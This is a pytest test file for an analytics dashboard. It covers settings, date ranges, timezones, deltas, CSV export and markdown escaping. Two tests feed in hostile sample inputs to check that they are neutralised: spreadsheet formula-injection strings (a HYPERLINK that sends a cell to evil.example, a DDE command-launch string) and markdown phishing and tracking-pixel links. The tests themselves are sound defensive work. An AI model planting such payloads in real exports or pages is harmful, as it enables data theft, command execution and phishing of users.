"""Pure dashboard helpers: settings, ranges, deltas, CSV."""
import csv
import io
from datetime import date, datetime, timezone

import pytest

from dashboard import config, exports, periods, text
from dashboard.screens import apps, overview


def test_settings_prefer_environment_over_secrets():
    settings = config.resolve({"ODDLYTICS_API_URL": "http://env/", "ODDLYTICS_API_KEY": "env-key"},
                              {"ODDLYTICS_API_URL": "http://secret", "ODDLYTICS_API_KEY": "secret-key"})
    assert (settings.url, settings.key) == ("http://env", "env-key")


def test_settings_fall_back_to_secrets_and_need_both():
    assert config.resolve({}, {"ODDLYTICS_API_URL": "http://s", "ODDLYTICS_API_KEY": "k"}).url == "http://s"
    assert config.resolve({"ODDLYTICS_API_URL": "http://s"}, {}) is None


def test_settings_repr_hides_the_key():
    assert "sekrit" not in repr(config.Settings("http://x", "sekrit"))


TODAY = date(2024, 11, 3)


@pytest.mark.parametrize("choice, params, interval", [
    ("Last 24 hours", {"days": "1", "tz": "UTC"}, "hour"),
    ("Last 7 days", {"from": "2024-10-28", "to": "2024-11-03", "tz": "UTC"}, "day"),
    ("Last 90 days", {"from": "2024-08-06", "to": "2024-11-03", "tz": "UTC"}, "day"),
])
def test_presets_are_whole_local_days_up_to_today_and_pick_the_bucket(choice, params, interval):
    assert periods.range_params(choice, "UTC", TODAY) == params
    assert periods.range_days(params) == periods.PRESETS[choice]
    assert periods.interval_for(params) == interval


def test_custom_range_is_inclusive_and_hourly_up_to_two_days():
    two_days = periods.range_params("Custom", "Europe/Berlin", TODAY, (date(2024, 5, 6), date(2024, 5, 7)))
    assert two_days == {"from": "2024-05-06", "to": "2024-05-07", "tz": "Europe/Berlin"}
    assert periods.interval_for(two_days) == "hour"
    three_days = periods.range_params("Custom", "UTC", TODAY, (date(2024, 5, 6), date(2024, 5, 8)))
    assert periods.interval_for(three_days) == "day"


def test_zone_is_the_setting_then_the_browser_then_utc():
    assert periods.zone_name("Asia/Tokyo", "Europe/Berlin") == "Asia/Tokyo"
    assert periods.zone_name("", "Europe/Berlin") == "Europe/Berlin"
    assert periods.zone_name("Mars/Olympus", None) == "UTC"
    assert config.resolve({"ODDLYTICS_API_URL": "u", "ODDLYTICS_API_KEY": "k"},
                          {"ODDLYTICS_TIMEZONE": "Asia/Tokyo"}).timezone == "Asia/Tokyo"


def test_today_and_times_are_local():
    evening = datetime(2024, 11, 3, 23, 30, tzinfo=timezone.utc)
    assert (periods.today_in("UTC", evening), periods.today_in("Asia/Tokyo", evening)) == (
        date(2024, 11, 3), date(2024, 11, 4))
    assert f"{periods.parse_time('2024-11-03T06:30:00.000Z', 'America/New_York'):%d %H:%M %Z}" == "03 01:30 EST"
    assert periods.range_label({"from": "2024-03-30T23:00:00Z", "to": "2024-03-31T22:00:00Z"}, "Europe/Berlin") == (
        "31 Mar 2024 00:00 → 01 Apr 2024 00:00 Europe/Berlin")


@pytest.mark.parametrize("current, previous, delta", [(6, 2, "+200.0%"), (1, 4, "-75.0%"), (3, 3, "0.0%"),
                                                      (10001, 10000, "0.0%"), (9999, 10000, "0.0%"),
                                                      (5, 0, None)])
def test_change_against_previous_period(current, previous, delta):
    """No change (or one that rounds to 0.0%) has no sign, so it is not drawn as a rise or a fall."""
    assert periods.change(current, previous) == delta
    assert periods.is_flat(delta) == (delta == "0.0%")


def test_counts_and_ratios_format():
    assert (periods.count(12345), periods.ratio(5.06), periods.per_session(7, 0)) == ("12,345", "5.1", 0.0)


def test_events_csv_has_the_tables_columns_times_in_the_viewers_zone_and_json_properties():
    events = [{"timestamp": "2024-05-06T09:00:00.000Z", "event": "Purchase", "app_id": "a", "session_id": "s",
               "user_id": None, "platform": "ios", "app_version": "1.0", "country": "DE",
               "properties": {"price": 4.99, "product": "Pro, yearly"}, "event_id": None,
               "received_at": "2024-05-06T09:00:01.250Z"}]
    rows = list(csv.reader(io.StringIO(exports.events_csv(events, "Europe/Berlin"))))
    assert rows == [
        ["timestamp (Europe/Berlin)", "event", "app_id", "user_id", "session_id", "platform", "app_version",
         "country", "properties", "event_id", "received_at (Europe/Berlin)"],
        ["2024-05-06T11:00:00.000+02:00", "Purchase", "a", "", "s", "ios", "1.0", "DE",
         '{"price": 4.99, "product": "Pro, yearly"}', "", "2024-05-06T11:00:01.250+02:00"]]
    assert exports.TABLE_COLUMNS == exports.CSV_COLUMNS[:len(exports.TABLE_COLUMNS)]


@pytest.mark.parametrize("hostile", ['=HYPERLINK("https://evil.example/?d="&E2,"Open")', "@SUM(1+1)",
                                     "+cmd|' /C calc'!A0", "-2+3", "\t=1+1".replace("\\t", "\t"), "\r=1"])
def test_csv_cells_that_a_spreadsheet_would_run_start_with_a_quote(hostile):
    event = {"timestamp": "2024-05-06T09:00:00Z", "event": hostile, "app_id": hostile, "session_id": hostile,
             "user_id": hostile, "platform": hostile, "app_version": hostile, "country": "DE",
             "properties": None, "event_id": hostile, "received_at": "2024-05-06T09:00:00Z"}
    row = list(csv.DictReader(io.StringIO(exports.events_csv([event]))))[0]
    for column in ("event", "app_id", "session_id", "user_id", "platform", "app_version", "event_id"):
        assert row[column] == "'" + hostile
    assert exports.inert_cell("App Opened") == "App Opened" and exports.inert_cell(None) == ""


@pytest.mark.parametrize("hostile", ["[Session expired - sign in](https://evil.example/login)",
                                     "![x](https://evil.example/pixel.png)", ":red[alert] :material/key:",
                                     "$x^2$", "<img src=x>", "**bold**"])
def test_literal_wraps_event_data_in_one_code_span(hostile):
    assert text.literal(hostile) == f"`{hostile}`"


@pytest.mark.parametrize("value, expected", [("a`b", "``a`b``"), ("``", "``` `` ```"), ("`x", "`` `x ``"),
                                             (" pad", "`  pad `"), ("two\nlines", "`two lines`"), ("", "` `")])
def test_literal_fence_outlasts_backticks_inside(value, expected):
    assert text.literal(value) == expected


def test_plural():
    assert (text.plural(1, "event"), text.plural(0, "event"), text.plural(12345, "user")) == (
        "1 event", "0 events", "12,345 users")


def test_custom_dates_from_a_link_are_ordered_and_kept_within_the_picker():
    assert periods.custom_dates("2024-03-01", "2024-03-31", TODAY) == (date(2024, 3, 1), date(2024, 3, 31))
    assert periods.custom_dates("2024-03-31", "2024-03-01", TODAY) == (date(2024, 3, 1), date(2024, 3, 31))
    assert periods.custom_dates("1999-01-01", "2030-01-01", TODAY) == (date(2000, 1, 1), TODAY)
    assert periods.custom_dates("yesterday", "2024-03-01", TODAY) is None
    assert periods.custom_dates(None, None, TODAY) is None


def test_only_the_running_hour_or_local_day_is_unfinished():
    now = datetime(2024, 11, 3, 23, 30, tzinfo=timezone.utc)  # already 4 Nov in Tokyo
    assert periods.is_unfinished({"t": "2024-11-03T23:00:00Z"}, "hour", "UTC", now)
    assert not periods.is_unfinished({"t": "2024-11-03T22:00:00Z"}, "hour", "UTC", now)
    assert periods.is_unfinished({"t": "2024-11-03T00:00:00Z", "date": "2024-11-03"}, "day", "UTC", now)
    assert not periods.is_unfinished({"t": "2024-11-02T15:00:00Z", "date": "2024-11-03"}, "day", "Asia/Tokyo", now)
    assert periods.is_unfinished({"t": "2024-11-03T15:00:00Z", "date": "2024-11-04"}, "day", "Asia/Tokyo", now)


def test_future_buckets_are_not_drawn():
    now = datetime(2024, 11, 3, 10, 30, tzinfo=timezone.utc)
    buckets = [{"t": f"2024-11-03T{hour:02d}:00:00Z"} for hour in range(24)]
    assert [b["t"][11:13] for b in periods.started_by(buckets, now)] == [f"{hour:02d}" for hour in range(11)]


def test_trend_scale_is_never_empty():
    assert apps.trend_ceiling([[0, 0, 0], [], None]) == 1
    assert apps.trend_ceiling([[0, 3, 1], [7, 0]]) == 7


def test_top_events_end_with_other_so_shares_add_up():
    names = [{"event": f"E{i}", "count": 20 - i, "sessions": 1} for i in range(13)]
    total = sum(e["count"] for e in names) + 5  # names beyond what was listed
    frame = overview.top_events_frame(names, total)
    assert list(frame["event"])[-1] == "Other (3 event names)" and len(frame) == 11
    assert frame["count"].iloc[-1] == 10 + 9 + 8 + 5 and round(frame["share"].sum(), 6) == 100
    assert list(overview.top_events_frame(names[:2], 39)["event"]) == ["E0", "E1"]
